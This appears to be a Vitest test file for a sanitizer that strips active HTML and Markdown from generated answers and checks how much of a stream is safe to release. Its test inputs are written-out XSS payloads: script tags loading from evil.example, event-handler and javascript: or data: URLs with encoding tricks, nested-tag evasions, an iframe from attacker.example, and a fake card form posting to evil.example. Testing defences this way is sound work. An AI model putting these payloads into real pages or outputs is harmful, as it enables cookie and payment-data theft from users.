import { describe, expect, it } from 'vitest';
import { markupSafeLength, neutralizeMarkup } from './neutralize-markup.js';

describe('neutralizeMarkup', () => {
  it.each([
    ['Open at nine <script>alert("x")</script>[1].', 'Open at nine [1].'],
    ['<SCRIPT src="https://evil.example/x.js"></SCRIPT >Hi', 'Hi'],
    ['<style>body { display: none }</style>Visible', 'Visible'],
    ['<svg onload=alert(1)> The dam', ' The dam'],
    ['<svg/onload=alert(1)>', ''],
    ['<img src=x onerror=alert(1)> swim caps', ' swim caps'],
    ['<img alt=">" src=x onerror=alert(1)> swim caps', ' swim caps'],
    ['<a href="#" onclick="steal()">Parking</a>', 'Parking</a>'],
    ['<iframe src="https://attacker.example/frame"></iframe>Rowing', 'Rowing'],
    ['<form action="https://evil.example/pay"><input name="card"><button>Pay</button></form>', 'Pay'],
    ['<object data="x.swf"></object><embed src="y"><link rel=stylesheet href=z><base href="/">', ''],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">Council', 'Council'],
    ['<a href="javascript:alert(1)">x</a>', 'x</a>'],
    ['<a href=" jav&#x09;ascript&colon;alert(1)">x</a>', 'x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'x</a>'],
    ['<a href="\u0001javascript:alert(1)">x</a>', 'x</a>'],
    ['<div style="background:url(javascript:alert(1))">x</div>', 'x</div>'],
    ['<details open ontoggle=alert(1)>x</details>', 'x</details>'],
    ['[the list](javascript:alert(document.cookie)) or [x](&#106;avascript:alert(1))', 'the list or x'],
    ['<javascript:alert(1)> [1]', ' [1]'],
    ['See [1].\n[1]: vbscript:msgbox(1)', 'See [1].\n'],
    ['<<script></script>script>alert(1)<</script>/script>', ''],
    ['x <<b onclick=y>svg onload=alert(1)>', 'x '],
    ['`<title>` <img src=x onerror=alert(1)> `</title>`', '``  ``'],
    ['`<xmp>` then <svg onload=alert(1)>', '`` then '],
    ['ends with <svg onload=alert(1)', 'ends with '],
  ])('when an answer holds "%s", then what acts is removed', (text, expected) => {
    expect(neutralizeMarkup(text)).toBe(expected);
  });

  it.each([
    'The effect was significant (p < 0.05), and a<b holds for every a, b.',
    'If x<y and y>z then nothing follows; 3 <4 and <3 for hearts.',
    'Swim caps are **required** [1]; see `pool-rules.md` and [the rules](https://docs.example.com/rules).',
    '<b>Bold</b>, <em>emphasis</em>, <img src="https://docs.example.com/a.png" alt="map">, <!-- a comment -->',
    '> A quote\n\n- a list\n\n```html\nplain code\n```',
  ])('when an answer holds harmless Markdown, tags or "<" in prose ("%s"), then it is unchanged', (text) => {
    expect(neutralizeMarkup(text)).toBe(text);
  });

  it('when a <script> element is not closed, then only its tag goes and the rest stays as text', () => {
    expect(neutralizeMarkup('Put the code in a <script> tag [1].')).toBe('Put the code in a  tag [1].');
  });

  it('when more text follows, then an active tag still open at the end is kept for the caller to hold back', () => {
    expect(neutralizeMarkup('x <<b onclick=y>svg ', { more: true })).toBe('x <svg ');
  });
});

describe('markupSafeLength', () => {
  it.each([
    ['Done. ', 6],
    ['Hi <script>alert(', 3],
    ['Hi <script>alert(1)</scr', 3],
    ['Hi <script>alert(1)</script> ok ', 32],
    ['Hi <style>a{}</style><script>x', 21],
  ])('when a stream so far is "%s", then %i characters can be neutralised', (text, length) => {
    expect(markupSafeLength(text)).toBe(length);
  });
});
